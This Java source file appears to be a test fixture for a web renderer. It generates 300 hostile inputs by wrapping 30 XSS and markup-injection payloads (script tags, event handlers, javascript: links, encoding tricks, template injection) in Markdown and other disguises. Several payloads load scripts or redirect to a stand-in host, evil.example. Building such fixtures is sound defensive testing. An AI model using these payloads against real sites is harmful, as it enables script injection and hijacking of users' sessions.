package dev.roundtable.web;

import java.util.ArrayList;
import java.util.List;

/** Three hundred texts that would like to be more than text. */
final class HostileTexts {
  private static final List<String> SEEDS =
      List.of(
          "<script>window.pwned=1</script>",
          "\"><script src=https://evil.example/x.js></script>",
          "'><img src=https://evil.example/x.png onerror=window.pwned=1>",
          "<img src=x onerror=window.pwned=1>",
          "<svg onload=window.pwned=1>",
          "<svg><script>window.pwned=1</script></svg>",
          "</title><script>window.pwned=1</script>",
          "</style><script>window.pwned=1</script>",
          "</textarea><script>window.pwned=1</script>",
          "</main></body></html><script>window.pwned=1</script>",
          "<iframe src=https://evil.example></iframe>",
          "<link rel=stylesheet href=https://evil.example/x.css>",
          "<meta http-equiv=refresh content=0;url=https://evil.example>",
          "<base href=https://evil.example/>",
          "<form action=https://evil.example><button>Go</button></form>",
          "<style>@import 'https://evil.example/x.css';body{display:none}</style>",
          "<a href=javascript:window.pwned=1>click</a>",
          "[click](javascript:window.pwned=1)",
          "[click](data:text/html,<script>window.pwned=1</script>)",
          "![picture](https://evil.example/pixel.png)",
          "[x](https://evil.example/\"onmouseover=window.pwned=1)",
          "<https://evil.example/?<script>window.pwned=1</script>>",
          "&lt;script&gt;window.pwned=1&lt;/script&gt;",
          "&#60;script&#62;window.pwned=1&#60;/script&#62;",
          "\u0000<\u0000script>window.pwned=1</script>",
          "\u202Egnp.exe\u202C <b onclick=window.pwned=1>x",
          "`<script>window.pwned=1</script>`",
          "```html\n<script>window.pwned=1</script>\n```",
          "<!--<script>window.pwned=1</script>-->",
          "]]><script>window.pwned=1</script>");
  private static final List<String> DISGUISES =
      List.of(
          "%s",
          "x%sx",
          "**%s**",
          "> %s",
          "- %s",
          "1. a\n2. %s",
          "%s\n\n%s",
          "| %s | b |",
          "\uFEFF%s",
          "{{constructor.constructor('window.pwned=1')()}}${window.pwned=1}%s");

  private HostileTexts() {}

  static List<String> all() {
    var texts = new ArrayList<String>();
    for (var disguise : DISGUISES) {
      SEEDS.forEach(seed -> texts.add(disguise.replace("%s", seed)));
    }
    return texts;
  }
}
